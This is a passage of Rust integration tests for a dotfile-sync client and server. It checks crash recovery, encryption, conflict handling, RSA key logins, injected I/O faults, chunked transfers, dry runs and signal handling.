    let port = srv.port;
    let addr = srv.addr.clone();
    let mut a = TestEnv::init();
    let srv_repo = w.srv_repo();
    let verifier = TestEnv::new();
    let (mut interrupted, mut mid_blobs) = (0, 0);
    let delays_ms = [0u64, 30, 80, 130, 180, 240, 320];
    for (round, &delay) in delays_ms.iter().enumerate() {
        a.now = now_plus(u32::try_from(round).unwrap() + 1);
        for j in 0..4u64 {
            a.write(&format!("big/{j}"), noise(1 << 20, round as u64 * 10 + j));
        }
        if round == 0 {
            local(&a, &["add", "big"]).ok();
        }
        local(&a, &["checkpoint", "-m", &format!("round {round}")]).ok();
        let blobs_before = blob_names(&srv_repo).len();
        let child = client_cmd(&a, Some(k), &["push", "-r", &addr], &[])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        thread::sleep(Duration::from_millis(delay));
        srv.kill9();
        let r = wait_run(child, LIMIT, "push during kill -9");
        if r.code != 0 {
            interrupted += 1;
        }
        local(&verifier, &["verify", "--repo", srv_repo.to_str().unwrap()]).ok();
        let installed =
            entries(&verifier, &["--repo", srv_repo.to_str().unwrap()]) == entries(&a, &[]);
        if blob_names(&srv_repo).len() > blobs_before && !installed {
            mid_blobs += 1;
        }
        assert_no_temp_blobs_or_report(&srv_repo);

        // Restart on the same port (the client's sync state names it).
        let mut restarted = None;
        for _ in 0..50 {
            match try_serve(&w.srv_home(), &srv_repo, &w.serve_args(port, &[])) {
                Ok(s) => {
                    restarted = Some(s);
                    break;
                }
                Err(e) => {
                    assert!(e.contains("listening on"), "sgardd failed to restart: {e}");
                    thread::sleep(Duration::from_millis(100));
                }
            }
        }
        srv = restarted.expect("could not rebind the server's port");
        let r = sg(&a, k, &["push", "-r", &addr]);
        r.ok();
        assert_eq!(
            entries(&verifier, &["--repo", srv_repo.to_str().unwrap()]),
            entries(&a, &[]),
            "round {round}: the server does not hold A's state"
        );
    }
    eprintln!(
        "kill -9: {interrupted} of {} pushes interrupted, {mid_blobs} after some blobs \
         were stored and before the manifest was installed",
        delays_ms.len()
    );
    let b = TestEnv::new();
    sg(&b, k, &["pull", "-r", &addr]).ok();
    assert_eq!(b.read("big/3"), a.read("big/3"));
    drop(srv);
}

/// After a `kill -9`, temp files may be left in `blobs/tmp` (a later prune
/// removes them); they must never be under a blob's name.
fn assert_no_temp_blobs_or_report(repo: &Path) {
    for p in files_under(&repo.join("blobs")) {
        if let Some(rest) = p.strip_prefix("tmp/") {
            assert!(rest.starts_with("blob-"), "odd temp file {p}");
        } else {
            let name = p.rsplit('/').next().unwrap();
            let bytes = fs::read(repo.join("blobs").join(&p)).unwrap();
            assert_eq!(sha(&bytes), name, "blob {p} does not match its name");
        }
    }
}

/// Encrypted entries travel encrypted: the server never sees the
/// plaintext; another HOME with the passphrase restores it.
#[test]
fn encrypted_entries_travel_encrypted() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let pw = [
        ("SGARD_PASSPHRASE", "correct horse battery staple"),
        ("SGARD_TEST_ARGON2", "1"),
    ];
    let plaintext = "api_token = TOP-SECRET-5c1f9e2a-never-on-the-server\n";
    let needle = "TOP-SECRET-5c1f9e2a";
    let a = TestEnv::init();
    sg_env(&a, None, &["encrypt", "init"], &pw).ok();
    a.write(".netrc", plaintext);
    a.write("plain", "not secret\n");
    sg_env(&a, None, &["add", "--encrypt", ".netrc"], &pw).ok();
    sg_env(&a, None, &["add", "plain"], &pw).ok();
    sg_env(&a, None, &["checkpoint"], &pw).ok();
    sg(&a, ka, &["push", "-r", addr]).ok();

    let all = files_under(&srv.repo);
    assert!(all.iter().any(|p| p.starts_with("blobs/")));
    for p in &all {
        let bytes = fs::read(srv.repo.join(p)).unwrap();
        assert!(
            !bytes.windows(needle.len()).any(|w| w == needle.as_bytes()),
            "the plaintext is on the server in {p}"
        );
    }
    assert!(!any_file_named(&srv.repo, &sha(plaintext)));

    let b = TestEnv::new();
    sg_env(&b, Some(kb), &["pull", "-r", addr], &pw).ok();
    assert_eq!(b.read(".netrc"), plaintext.as_bytes());
    assert_eq!(b.read("plain"), b"not secret\n");
    assert!(b.manifest().contains("encrypted: true"));
    drop(srv);
}

/// `remote set|show|unset`, `SGARD_REMOTE`, and `list`/`prune` staying
/// local unless given `--remote`.
#[test]
fn remote_config_and_remote_list_prune() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let a = TestEnv::init();
    a.write("f", "shared\n");
    track(&a, &["f"]);

    local(&a, &["remote", "show"])
        .ok()
        .stdout_has("No remote configured.");
    sg(&a, ka, &["push"])
        .code(1)
        .stderr_has("no remote configured");
    local(&a, &["remote", "set", addr])
        .ok()
        .stdout_has(&format!("Remote set: {addr}"));
    let yaml = fs::read_to_string(a.repo().join("remote.yaml")).unwrap();
    assert!(
        yaml.lines()
            .any(|l| l.starts_with("addr:") && l.contains(addr)),
        "{yaml}"
    );
    local(&a, &["remote", "show"])
        .ok()
        .stdout_has(&format!("addr:   {addr}\n"))
        .stdout_has("tls:    false\n");
    sg(&a, ka, &["push"]).ok().stdout_has("Pushed ");

    // SGARD_REMOTE: a repository without remote.yaml...
    let b = TestEnv::init();
    sg_env(&b, Some(kb), &["pull"], &[("SGARD_REMOTE", addr)]).ok();
    assert_eq!(b.read("f"), b"shared\n");
    // ...and over a remote.yaml naming a dead server.
    local(&b, &["remote", "set", "127.0.0.1:1"]).ok();
    sg_env(
        &b,
        Some(kb),
        &["list", "--remote"],
        &[("SGARD_REMOTE", addr)],
    )
    .ok()
    .stdout_has("~/f");

    // A local-only entry: `list` is local, `list --remote` the server's.
    a.write("local-only", "not pushed\n");
    track(&a, &["local-only"]);
    let r = local(&a, &["list"]);
    r.ok().stdout_has("~/local-only").stdout_has("~/f");
    let r = sg(&a, ka, &["list", "--remote"]);
    r.ok().stdout_has("~/f");
    assert!(!r.stdout.contains("local-only"), "{r:#?}");
    // With the remote dead, local list and prune still work.
    local(&a, &["remote", "set", "127.0.0.1:1"]).ok();
    local(&a, &["list"]).ok().stdout_has("~/local-only");
    let r = local(&a, &["prune"]);
    r.ok().stdout_has("Pruned ").stdout_has("freed");
    assert!(!r.stdout.contains("on remote"), "{r:#?}");
    local(&a, &["remote", "set", addr]).ok();
    let r = sg(&a, ka, &["prune", "--remote"]);
    r.ok();
    let line = r.stdout.trim();
    assert!(
        line.starts_with("Pruned ")
            && (line.ends_with(" orphaned blobs on remote.")
                || line == "Pruned 1 orphaned blob on remote."),
        "{r:#?}"
    );
    // `-r ADDR` beats a dead remote.yaml, and a dead SGARD_REMOTE.
    local(&a, &["remote", "set", "127.0.0.1:1"]).ok();
    sg(&a, ka, &["list", "-r", addr]).ok().stdout_has("~/f");
    sg_env(
        &a,
        Some(ka),
        &["list", "-r", addr],
        &[("SGARD_REMOTE", "127.0.0.1:1")],
    )
    .ok()
    .stdout_has("~/f");
    // Server options belong to the commands that talk to a server: before
    // the subcommand, or on a local one, they are usage errors, never
    // silently ignored.
    for args in [
        &["-r", addr, "list"][..],
        &["--remote", addr, "push"],
        &["--tls", "pull"],
        &["status", "--tls-ca", "ca.pem"],
        &["checkpoint", "-r", addr],
    ] {
        let r = local(&a, args);
        assert_eq!(r.code, 2, "{args:?}; {r:#?}");
    }

    local(&a, &["remote", "unset"])
        .ok()
        .stdout_has("Remote removed.");
    assert!(!a.repo().join("remote.yaml").exists());
    local(&a, &["remote", "show"])
        .ok()
        .stdout_has("No remote configured.");
    sg(&a, ka, &["push"])
        .code(1)
        .stderr_has("no remote configured");
    drop(srv);
}

/// History travels: B's log has A's checkpoints (same ids, times, messages).
#[test]
fn history_travels_with_push_and_pull() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    a.write("f", "first\n");
    local(&a, &["add", "f"]).ok();
    local(&a, &["checkpoint", "-m", "first checkpoint"]).ok();
    a.now = now_plus(10);
    a.write("f", "second\n");
    local(&a, &["checkpoint", "-m", "second checkpoint"]).ok();
    sg(&a, ka, &["push", "-r", addr]).ok();

    let a_log = log_json(&a);
    let a_cps: Vec<&Value> = a_log
        .iter()
        .filter(|s| s["reason"] == "checkpoint")
        .collect();
    assert_eq!(a_cps.len(), 2, "{a_log:#?}");

    let b = TestEnv::new();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    let b_log = log_json(&b);
    for cp in &a_cps {
        let same = b_log
            .iter()
            .find(|s| s["id"] == cp["id"] && s["reason"] == "checkpoint")
            .unwrap_or_else(|| panic!("B's log lacks {}: {b_log:#?}", cp["id"]));
        for field in ["reason", "time", "host", "message", "parent", "entries"] {
            assert_eq!(same[field], cp[field], "{field} of {}", cp["id"]);
        }
    }
    let text = local(&b, &["log"]);
    text.ok()
        .stdout_has("first checkpoint")
        .stdout_has("second checkpoint")
        .stdout_has(&cp_short(a_cps[0]));
    // The snapshots that travelled are whole: every blob they name is on the
    // server and on B (`verify` checks every snapshot), and B can restore
    // A's first checkpoint.
    let any = TestEnv::new();
    local(&any, &["verify", "--repo", srv.repo.to_str().unwrap()]).ok();
    local(&b, &["verify"]).ok();
    let first = a_cps[1]["id"].as_str().unwrap();
    local(&b, &["restore", "--force", "--at", first]).ok();
    assert_eq!(b.read("f"), b"first\n");
    drop(srv);
}

fn cp_short(v: &Value) -> String {
    v["id"].as_str().unwrap()[..12].to_owned()
}

/// A pull uses this machine's base for the disk side: a file edited here
/// since the last sync is asked about (refused without an answer, exit 4),
/// never overwritten; the others come in without a question.
#[test]
fn pull_asks_before_overwriting_a_local_edit() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    let b = TestEnv::new();
    a.write("f", "v1\n");
    a.write("g", "g1\n");
    track(&a, &["f", "g"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    sg(&b, kb, &["pull", "-r", addr]).ok();

    // B edits f without checkpointing; A changes f and g and pushes.
    let p = b.write("f", "b's unsaved edit\n");
    set_mtime(&p, now_secs() - 86_400);
    a.now = now_plus(1);
    a.write("f", "v2\n");
    a.write("g", "g2\n");
    local(&a, &["checkpoint"]).ok();
    sg(&a, ka, &["push", "-r", addr]).ok();

    let r = sg(&b, kb, &["pull", "-r", addr]);
    r.code(4).stdout_has("refused    ~/f");
    assert_eq!(
        b.read("f"),
        b"b's unsaved edit\n",
        "a local edit was overwritten"
    );
    assert_eq!(b.read("g"), b"g2\n");
    // B's checkpoint refuses the conflict; `pull --force` takes the server's.
    local(&b, &["checkpoint"]).code(4);
    sg(&b, kb, &["pull", "-r", addr, "--force"]).ok();
    assert_eq!(b.read("f"), b"v2\n");
    local(&b, &["status", "--exit-code"]).ok();
    drop(srv);
}

/// A file deleted here after a sync stays deleted through later pulls,
/// even when this machine lost its base (nothing then says it ever had
/// the file).
#[test]
fn a_file_deleted_here_is_not_brought_back_by_pull() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let a = TestEnv::init();
    a.write("f", "v1\n");
    a.write("g", "v1\n");
    track(&a, &["f", "g"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    let b = TestEnv::new();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    fs::remove_file(b.path("f")).unwrap();
    sg(&b, kb, &["pull", "-r", addr])
        .ok()
        .stdout_has("Already up to date.");
    assert!(!b.path("f").exists());
    fs::remove_file(b.index()).unwrap();
    sg(&b, kb, &["pull", "-r", addr])
        .ok()
        .stdout_has("Already up to date.");
    assert!(!b.path("f").exists(), "pull brought back a deleted file");
    drop(srv);
}

/// A pull killed after it merged (the repository has the server's state,
/// the home does not yet), or inside its restore, is finished by the next
/// pull: "up to date" with the server, it still restores what is behind,
/// and a checkpoint in between never pushes the old files back.
#[test]
fn a_killed_pull_is_finished_by_the_next_one() {
    for point in [
        "pull-after-merge",
        "restore-after-snapshot",
        "restore-staged",
    ] {
        let w = world_or_skip!(2);
        let (ka, kb) = (w.key(0), w.key(1));
        let srv = w.serve(&[]);
        let addr = srv.addr.as_str();
        let mut a = TestEnv::init();
        let b = TestEnv::new();
        a.write("f", "v1\n");
        a.write("g", "v1\n");
        track(&a, &["f", "g"]);
        sg(&a, ka, &["push", "-r", addr]).ok();
        sg(&b, kb, &["pull", "-r", addr]).ok();
        change(&mut a, "f", "v2\n", 1);
        change(&mut a, "g", "v2\n", 2);
        // And a file B never had.
        a.write("h", "new\n");
        track(&a, &["h"]);
        sg(&a, ka, &["push", "-r", addr]).ok();

        let r = sg_env(
            &b,
            Some(kb),
            &["pull", "-r", addr],
            &[("SGARD_TEST_CRASH_AT", point)],
        );
        assert_eq!(r.code, -1, "{point}: not killed; {r:#?}");
        let st = local(&b, &["status"]);
        assert!(
            !st.stdout.contains("modified") && !st.stdout.contains("conflict"),
            "{point}: {st:#?}"
        );
        // A checkpoint now records nothing old.
        let r = local(&b, &["checkpoint"]);
        r.ok();
        assert!(!r.stdout.contains("updated"), "{point}: {r:#?}");
        let r = sg(&b, kb, &["pull", "-r", addr]);
        r.ok();
        assert!(!r.stdout.contains("Overwrite"), "{point}: {r:#?}");
        assert_eq!(b.read("f"), b"v2\n", "{point}");
        assert_eq!(b.read("g"), b"v2\n", "{point}");
        assert_eq!(b.read("h"), b"new\n", "{point}: the new file");
        local(&b, &["status", "--exit-code"]).ok();
        sg(&b, kb, &["push", "-r", addr])
            .ok()
            .stdout_has("Already up to date.");
        drop(srv);
    }
}

/// A restore after a cut-off pull finishes its work, and settles it: a file
/// it wrote and the user then deleted is not brought back by the next pull.
#[test]
fn a_restore_settles_what_a_killed_pull_left() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let a = TestEnv::init();
    let b = TestEnv::new();
    a.write("f", "v1\n");
    track(&a, &["f"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    sg(&b, kb, &["pull", "-r", addr]).ok();
    a.write("h", "new\n");
    track(&a, &["h"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    let r = sg_env(
        &b,
        Some(kb),
        &["pull", "-r", addr],
        &[("SGARD_TEST_CRASH_AT", "pull-after-merge")],
    );
    assert_eq!(r.code, -1, "not killed; {r:#?}");
    assert!(!b.path("h").exists());
    local(&b, &["restore"]).ok();
    assert_eq!(b.read("h"), b"new\n");
    fs::remove_file(b.path("h")).unwrap();
    sg(&b, kb, &["pull", "-r", addr])
        .ok()
        .stdout_has("Already up to date.");
    assert!(!b.path("h").exists(), "pull brought back a deleted file");
    drop(srv);
}

/// An address without a port is a clear error before anything connects,
/// with or without TLS, and names the address.
#[test]
fn a_server_address_without_a_port_is_a_clear_error() {
    let t = TestEnv::init();
    for extra in [&[][..], &["--tls"][..], &["--tls-ca", "/dev/null"][..]] {
        let mut args = vec!["list", "-r", "myhost"];
        args.extend_from_slice(extra);
        t.sgard(args)
            .code(1)
            .stderr_has("\"myhost\"")
            .stderr_has("HOST:PORT");
    }
    t.sgard(["list", "-r", "[::1]"])
        .code(1)
        .stderr_has("HOST:PORT");
}

/// An RSA key made by `ssh-keygen` (`format`: "RFC4716" for OpenSSH's own,
/// "PEM" for PKCS#1, "PKCS8").
fn rsa_keygen(dir: &Path, name: &str, bits: u32, format: &str) -> Option<PathBuf> {
    let p = dir.join(name);
    let out = Command::new("ssh-keygen")
        .args([
            "-q",
            "-t",
            "rsa",
            "-b",
            &bits.to_string(),
            "-N",
            "",
            "-C",
            name,
        ])
        .args(if format == "RFC4716" {
            vec![]
        } else {
            vec!["-m", format]
        })
        .arg("-f")
        .arg(&p)
        .stdin(Stdio::null())
        .output()
        .ok()?;
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    Some(p)
}

/// RSA key files sign (OpenSSH, PKCS#1 and PKCS#8 formats, 2048 to 4096
/// bits), and the server accepts the SHA-1 `ssh-rsa` signatures the Go
/// sgard makes with RSA keys.
#[test]
fn rsa_keys_log_in_in_every_format() {
    let w = world_or_skip!(1);
    let kdir = w.root().join("keys");
    let mut keys = Vec::new();
    for (name, bits, fmt) in [
        ("rsa2048", 2048, "RFC4716"),
        ("rsa3072pem", 3072, "PEM"),
        ("rsa4096p8", 4096, "PKCS8"),
    ] {
        keys.push(rsa_keygen(&kdir, name, bits, fmt).unwrap());
    }
    let weak = rsa_keygen(&kdir, "rsa1024", 1024, "RFC4716").unwrap();
    let mut lines = fs::read_to_string(w.auth_keys()).unwrap();
    for k in keys.iter().chain([&weak]) {
        lines.push_str(&pubkey(k));
    }
    fs::write(w.auth_keys(), lines).unwrap();
    let srv = w.serve(&[]);
    let addr = srv.addr.as_str();
    for k in &keys {
        let t = TestEnv::new();
        let r = sg(&t, k, &["pull", "-r", addr]);
        r.ok();
    }
    // A short RSA key is refused even when authorized, with the remedy.
    let t = TestEnv::new();
    let r = sg(&t, &weak, &["pull", "-r", addr]);
    assert_ne!(r.code, 0, "{r:#?}");
    r.stderr_has("under 2048 bits")
        .stderr_has("ssh-keygen -t ed25519");
    // A Go client's RSA login: PKCS#1 v1.5 over SHA-1, named `ssh-rsa`.
    use rsa::pkcs1::DecodeRsaPrivateKey;
    use rsa::signature::{SignatureEncoding, Signer};
    use ssh_encoding::Encode;
    let pem = fs::read_to_string(&keys[1]).unwrap();
    let sk = rsa::pkcs1v15::SigningKey::<sha1::Sha1>::new(
        rsa::RsaPrivateKey::from_pkcs1_pem(&pem).unwrap(),
    );
    let n = nonce("go rsa");
    let ts = unix_now();
    let sig = sk.sign(&challenge_payload(&n, ts)).to_vec();
    let mut wire = Vec::new();
    "ssh-rsa".encode(&mut wire).unwrap();
    sig.as_slice().encode(&mut wire).unwrap();
    let rt = runtime();
    rt.block_on(async {
        let mut c = connect(addr).await;
        let tok = raw_auth(
            &mut c,
            v1::AuthenticateRequest {
                nonce: n.clone(),
                timestamp: ts,
                signature: wire.clone(),
                public_key: pubkey(&keys[1]),
            },
        )
        .await;
        assert!(tok.is_ok(), "the ssh-rsa login was refused: {tok:?}");
        // And a signature over something else is not accepted.
        let bad = raw_auth(
            &mut c,
            v1::AuthenticateRequest {
                nonce: nonce("other"),
                timestamp: ts,
                signature: wire,
                public_key: pubkey(&keys[1]),
            },
        )
        .await;
        assert!(bad.is_err());
    });
    drop(srv);
}

/// Injected I/O errors inside `pull` (EIO from the n-th call on, for each
/// durability and rename system call, for every n a pull reaches): it fails
/// with a clear error, leaves no half file and no temp file in the home or
/// the repository, and the next pull finishes the job (one that failed past
/// its record says so, and a restore then writes what it brought).
#[test]
fn io_errors_inside_pull_lose_nothing_and_the_next_pull_finishes() {
    if !strace_works() {
        eprintln!("skipping: strace cannot trace here");
        return;
    }
    two_machines_one_server!(w, srv, addr, ka, kb);
    let a = TestEnv::init();
    let files: Vec<(String, Vec<u8>)> = (0..4u64)
        .map(|i| {
            (
                format!("d{}/f{i}", i % 2),
                noise(2000 + 700 * i as usize, i),
            )
        })
        .collect();
    for (rel, body) in &files {
        a.write(rel, body);
    }
    track(&a, &["d0", "d1"]);
    sg(&a, ka, &["push", "-r", addr]).ok();

    const CALLS: &str = "fsync,fdatasync,syncfs,rename,renameat,renameat2";
    let pull = |b: &TestEnv| client_cmd(b, Some(kb), &["pull", "-r", addr], &[]);
    let (r, counts) = with_faults(&pull(&TestEnv::new()), CALLS, None);
    r.ok();
    assert!(counts.get("fsync").is_some_and(|n| *n > 0), "{counts:?}");
    for (call, total) in counts {
        for n in 1..=total {
            let what = format!("EIO from {call} call {n} of {total} on");
            let b = TestEnv::new();
            let (r, _) = with_faults(&pull(&b), CALLS, Some((&call, "EIO", n)));
            assert_fails_cleanly(&r, &what);
            for (rel, body) in &files {
                if let Ok(got) = fs::read(b.path(rel)) {
                    assert_eq!(&got, body, "{what}: {rel} half written");
                }
            }
            let left = crate::hostile::debris(&b.home);
            assert!(left.is_empty(), "{what}: left {left:?}");
            // Failed past its record: as the error says, a restore writes
            // what the pull brought.
            if r.stderr.contains("is recorded in the log") {
                assert!(
                    r.stderr
                        .contains("`sgard restore` writes what the pull brought"),
                    "{what}: {r:#?}"
                );
                local(&b, &["restore"]).ok();
                for (rel, body) in &files {
                    assert_eq!(&b.read(rel), body, "{what}: {rel} after a restore");
                }
            }
            sg(&b, kb, &["pull", "-r", addr]).ok();
            for (rel, body) in &files {
                assert_eq!(&b.read(rel), body, "{what}: {rel} after the next pull");
            }
            local(&b, &["verify"]).ok();
            let st = local(&b, &["status"]);
            st.ok();
            assert!(
                st.stdout.lines().all(|l| l.starts_with("ok ")),
                "{what}: {st:#?}"
            );
        }
    }
    drop(srv);
}

/// Bytes of every file under `dir`.
fn bytes_under(dir: &Path) -> u64 {
    files_under(dir)
        .iter()
        .map(|f| fs::metadata(dir.join(f)).map_or(0, |m| m.len()))
        .sum()
}

#[test]
fn an_edited_big_file_pushes_and_pulls_only_the_chunks_that_changed() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    let b = TestEnv::new();
    let mut big = noise(24 << 20, 9);
    a.write("big.bin", &big);
    track(&a, &["big.bin"]);
    sg(&a, ka, &["push", "-r", addr]).ok();
    assert!(
        !blob_file(&srv.repo, &sha(&big)).exists(),
        "stored in chunks on the server"
    );
    sg(&b, kb, &["pull", "-r", addr]).ok();
    assert!(b.read("big.bin") == big);

    // One byte changed: well under 1 MiB crosses either way.
    big[12 << 20] ^= 0x5a;
    a.now = now_plus(1);
    a.write("big.bin", &big);
    set_mtime(&a.path("big.bin"), now_secs() + 60);
    local(&a, &["checkpoint"]).ok();
    let before = bytes_under(&srv.repo);
    sg(&a, ka, &["push", "-r", addr]).ok();
    let grew = bytes_under(&srv.repo) - before;
    assert!(grew < 1 << 20, "the push stored {grew} bytes on the server");
    let before = bytes_under(&b.repo());
    sg(&b, kb, &["pull", "-r", addr]).ok();
    let grew = bytes_under(&b.repo()) - before;
    assert!(grew < 1 << 20, "the pull stored {grew} bytes here");
    assert!(b.read("big.bin") == big, "byte for byte");
    local(&b, &["verify"]).ok();
    b.sgard(["--repo", srv.repo.to_str().unwrap(), "verify"])
        .ok();
}

#[test]
fn templates_their_data_and_script_flags_travel_through_push_and_pull() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    let b = TestEnv::new();
    fs::write(a.repo().join("data.yaml"), "email: a@home.example\n").unwrap();
    a.write(
        ".gitconfig",
        "email = {{ data.email }} on {{ sgard.hostname }}\n",
    );
    a.write("bin/setup", "#!/bin/sh\necho ran >> \"$HOME/setup.log\"\n");
    fs::set_permissions(a.path("bin/setup"), fs::Permissions::from_mode(0o755)).unwrap();
    local(&a, &["add", "--template", "~/.gitconfig"]).ok();
    local(&a, &["add", "--run", "once", "~/bin/setup"]).ok();
    local(&a, &["checkpoint", "-m", "templates"]).ok();
    sg(&a, ka, &["push", "-r", addr]).ok();

    sg(&b, kb, &["pull", "-r", addr])
        .ok()
        .stdout_has("running    ~/bin/setup");
    assert_eq!(
        b.read(".gitconfig"),
        b"email = a@home.example on testhost\n"
    );
    assert_eq!(
        fs::read_to_string(b.repo().join("data.yaml")).unwrap(),
        "email: a@home.example\n",
        "data.yaml came with the manifest"
    );
    assert_eq!(fs::read_to_string(b.path("setup.log")).unwrap(), "ran\n");
    let m = fs::read_to_string(b.repo().join("manifest.yaml")).unwrap();
    assert!(
        m.contains("type: template") && m.contains("run: once"),
        "{m}"
    );

    // Only data.yaml changes: the push carries it, and the pull renders
    // the template again (the script, unchanged, does not run again).
    a.now = now_plus(1);
    fs::write(a.repo().join("data.yaml"), "email: a@new.example\n").unwrap();
    sg(&a, ka, &["push", "-r", addr]).ok();
    let r = sg(&b, kb, &["pull", "-r", addr]);
    r.ok();
    assert_eq!(b.read(".gitconfig"), b"email = a@new.example on testhost\n");
    assert_eq!(fs::read_to_string(b.path("setup.log")).unwrap(), "ran\n");
    local(&b, &["status", "--exit-code"]).ok();
}

/// Every file under `dir` with its bytes (what a dry run must not touch).
fn snapshot_of(dir: &Path) -> BTreeMap<String, Vec<u8>> {
    files_under(dir)
        .into_iter()
        .filter(|p| !p.ends_with("lock") && !p.ends_with("lock.turn"))
        .map(|p| {
            let bytes = fs::read(dir.join(&p)).unwrap();
            (p, bytes)
        })
        .collect()
}

/// `push -n` asks the server what it lacks and sends nothing; `pull -n`
/// merges the server's manifest in memory and writes nothing, anywhere;
/// both say what the real command would refuse (exit 4).
#[test]
fn push_and_pull_dry_runs_change_nothing_on_either_side() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let mut a = TestEnv::init();
    a.write("f", "one\n");
    a.write("g", noise(50_000, 7));
    track(&a, &["f", "g"]);

    // A first push with a token, so the dry runs below log in with it as
    // well (a login writes the token, which is not the dry run's doing).
    let server_before = snapshot_of(&srv.repo);
    sg(&a, ka, &["list", "-r", addr]).ok();
    let client_before = snapshot_of(&a.home);
    let r = sg(&a, ka, &["push", "-n", "-r", addr]);
    r.ok().stdout_has("Dry run: would send 3 blobs");
    assert_eq!(snapshot_of(&srv.repo), server_before, "a dry push wrote");
    assert_eq!(snapshot_of(&a.home), client_before, "a dry push wrote here");
    // The push then sends what the dry run said.
    sg(&a, ka, &["push", "-r", addr])
        .ok()
        .stdout_has("Pushed 3 blobs.");
    sg(&a, ka, &["push", "-n", "-r", addr])
        .ok()
        .stdout_has("Already up to date: nothing would be sent.");

    // A home with no repository: nothing is created.
    let mut b = TestEnv::new();
    sg(&b, kb, &["pull", "-n", "-r", addr])
        .ok()
        .stdout_has("would create a repository");
    assert!(!b.repo().exists());
    sg(&b, kb, &["pull", "-r", addr]).ok();

    // A changes f: B's dry pull names it and changes nothing.
    change(&mut a, "f", "two\n", 5);
    sg(&a, ka, &["push", "-r", addr]).ok();
    let home_before = snapshot_of(&b.home);
    let r = sg(&b, kb, &["pull", "-n", "-r", addr]);
    r.ok()
        .stdout_has("take       ~/f\n")
        .stdout_has("would take 1 entry and fetch 1 blob of content");
    assert_eq!(snapshot_of(&b.home), home_before, "a dry pull wrote");
    assert_eq!(b.read("f"), b"one\n");

    // B changed f too: the dry pull shows the conflict and exits 4 like
    // the pull; the dry push says a push would be refused.
    change(&mut b, "f", "three\n", 6);
    let home_before = snapshot_of(&b.home);
    let r = sg(&b, kb, &["pull", "-n", "-r", addr]);
    r.code(4)
        .stdout_has("conflict   ~/f\n")
        .stderr_has("changed both here and on the server");
    let r = sg(&b, kb, &["push", "--dry-run", "-r", addr]);
    r.code(4).stderr_has("a push would be refused");
    assert_eq!(snapshot_of(&b.home), home_before);
    // --theirs settles it in the dry run too.
    sg(&b, kb, &["pull", "-n", "--theirs", "-r", addr])
        .ok()
        .stdout_has("theirs     ~/f\n");
    assert_eq!(b.read("f"), b"three\n");
    drop(srv);
}

/// Starts `sgard args` in `t` held at the test hook `point` until `gate`
/// exists; returns once it waits there.
pub(crate) fn held(
    t: &TestEnv,
    key: &Path,
    args: &[&str],
    point: &str,
    gate: &Path,
) -> std::process::Child {
    let hook = format!("{point}:{}", gate.display());
    let child = client_cmd(t, Some(key), args, &[("SGARD_TEST_WAIT_AT", &hook)])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let reached = gate.with_extension("reached");
    let t0 = Instant::now();
    while !reached.exists() {
        assert!(t0.elapsed() < LIMIT, "{args:?} never reached {point}");
        thread::sleep(Duration::from_millis(10));
    }
    child
}

/// `sgard push -r addr` held after its first object until `gate` exists.
pub(crate) fn held_push(t: &TestEnv, key: &Path, addr: &str, gate: &Path) -> std::process::Child {
    held(t, key, &["push", "-r", addr], "pushing-object", gate)
}

/// Starts `sgard args` held after its first object moved (the test hook
/// `<what>-object`), sends `sig` while it waits, then lets it go on: it
/// must stop at once with exit 130.
fn interrupted(t: &TestEnv, key: &Path, args: &[&str], what: &str, sig: &str) -> Run {
    let gate = t.outside().join(format!("gate-{what}{sig}"));
    let child = held(t, key, args, &format!("{what}-object"), &gate);
    let st = Command::new("kill")
        .args([sig, &child.id().to_string()])
        .status()
        .unwrap();
    assert!(st.success());
    thread::sleep(Duration::from_millis(100));
    fs::write(&gate, "go").unwrap();
    wait_run(child, LIMIT, what)
}

/// Ctrl-C or SIGTERM in the middle of a push and of a pull: exit 130,
/// `interrupted`, no temp file on either side, nothing half-recorded; the
/// next push and pull finish the work.
#[test]
fn push_and_pull_end_cleanly_when_interrupted() {
    two_machines_one_server!(w, srv, addr, ka, kb);
    let a = TestEnv::init();
    for i in 0..3 {
        a.write(&format!("big{i}"), noise(3 << 20, i));
    }
    local(&a, &["chunking", "--off"]).ok();
    track(&a, &["big0", "big1", "big2"]);
    for sig in ["-INT", "-TERM"] {
        let r = interrupted(&a, ka, &["push", "-r", addr], "pushing", sig);
        assert_eq!(r.code, 130, "{sig}: {r:#?}");
        r.stderr_has("interrupted");
        assert_no_temp_blobs(&a.repo());
        assert_no_temp_blobs(&srv.repo);
        // The server took no head from the half push.
        let r = sg(&a, ka, &["list", "-r", addr]);
        r.ok();
        assert!(
            !r.stdout.contains("~/big0"),
            "a half push is visible: {r:#?}"
        );
    }
    let b = TestEnv::new();
    sg(&a, ka, &["push", "-r", addr]).ok();

    let r = interrupted(&b, kb, &["pull", "-r", addr], "pulling", "-INT");
    assert_eq!(r.code, 130, "{r:#?}");
    r.stderr_has("interrupted");
    assert_no_temp_blobs(&b.repo());
    for i in 0..3 {
        assert!(
            !b.path(&format!("big{i}")).exists(),
            "a half pull restored big{i}"
        );
    }
    sg(&b, kb, &["pull", "-r", addr]).ok();
    for i in 0..3 {
        let name = format!("big{i}");
        assert_eq!(b.read(&name), a.read(&name));
    }
    drop(srv);
}

/// A Go client's push (no base id; its manifests carry no `run:` flags, no
/// `data:` and no `folders:`) to a fresh `sgardd --init` is taken (the new
/// server is older than any machine), and keeps the server's run flags, so
/// our next pull does not spread the loss.
#[test]
